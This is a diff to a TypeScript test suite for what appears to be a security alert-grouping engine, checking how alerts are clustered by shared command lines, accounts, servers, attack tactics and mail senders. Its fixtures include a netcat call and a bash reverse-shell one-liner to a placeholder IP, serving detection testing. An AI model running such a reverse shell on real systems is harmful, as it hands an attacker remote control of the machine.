@@ -74,6 +74,10 @@ describe('alerts', () => {
     expect(
       place([alert([], 0, fetches), alert([], 1, says('nc 203.0.113.7 443')), alert([], 1, says('ping 10.0.0.1'))]),
     ).toEqual([1, 1, 2]);
+    const agent = says('Mozilla/5.0 (X11; Linux x86_64) Chrome/130.0.0.0 Safari/537.36');
+    expect(place([alert([], 0, agent), alert([], 1, agent)])).toEqual([1, 2]);
+    const shell = says('bash -i >& /dev/tcp/203.0.113.7/443 0>&1');
+    expect(place([alert([], 0, shell), alert([], 1, shell)])).toEqual([1, 1]);
   });
 });
 
@@ -105,8 +109,32 @@ describe('what many share', () => {
 
   it('on a busy machine accounts tell stories apart, and what has none goes with what is near', () => {
     expect(placeShared([on('dc01', 'anna', 0), on('dc01', 'bo', 0), on('dc01', 'anna', 5)])).toEqual([1, 2, 1]);
-    expect(placeShared([on('dc01', 'anna', 0), on('dc01', undefined, 1), on('dc01', undefined, 9)])).toEqual([1, 1, 2]);
-    expect(placeShared([on('dc01', undefined, 1), on('dc01', 'anna', 0)])).toEqual([1, 1]);
+    expect(placeShared([on('dc01', 'anna', 0), on('dc01', undefined, 1), on('dc01', undefined, 9)])).toEqual([1, 1, 1]);
+    expect(placeShared([on('dc01', undefined, 1), on('dc01', 'anna', 0), on('dc01', 'bo', 9)])).toEqual([1, 1, 2]);
+  });
+
+  it('on a server accounts tell stories apart, and what has none goes with what is before it in an attack', () => {
+    const server = (account: string | undefined, at: number, tactics: string[] = []) => {
+      const { entities, ...rest } = on('app01', account, at);
+      return { ...rest, tactics, entities: entities.map((e) => (e.kind === 'Host' ? { ...e, isOfSeveral: true } : e)) };
+    };
+    expect(placeShared([server('anna', 0), server('bo', 0), server('anna', 5)])).toEqual([1, 2, 1]);
+    expect(placeShared([server('anna', 0, ['InitialAccess']), server(undefined, 9, ['Impact'])])).toEqual([1, 1]);
+    expect(placeShared([server('anna', 9, ['InitialAccess']), server(undefined, 0, ['Impact'])])).toEqual([1, 2]);
+    expect(placeShared([server(undefined, 0), server(undefined, 20)])).toEqual([1, 1]);
+  });
+
+  it('joins no mails by the server that sent them, but what else came from there', () => {
+    const from = (kind: 'MailMessage' | undefined, id: string) =>
+      alert([], 0, {
+        entities: resolveEntities([
+          { kind: 'IP', identifiers: { Address: '203.0.113.9' } },
+          ...(kind ? [{ kind, identifiers: { NetworkMessageId: id, Recipient: `${id}@contoso.com` } }] : []),
+        ]),
+      });
+    expect(placeShared([from('MailMessage', 'a'), from('MailMessage', 'b')])).toEqual([1, 2]);
+    expect(placeShared([from('MailMessage', 'a'), from(undefined, '')])).toEqual([1, 1]);
+    expect(placeShared([from(undefined, ''), from('MailMessage', 'a')])).toEqual([1, 1]);
   });
 
   it('is told', () => {
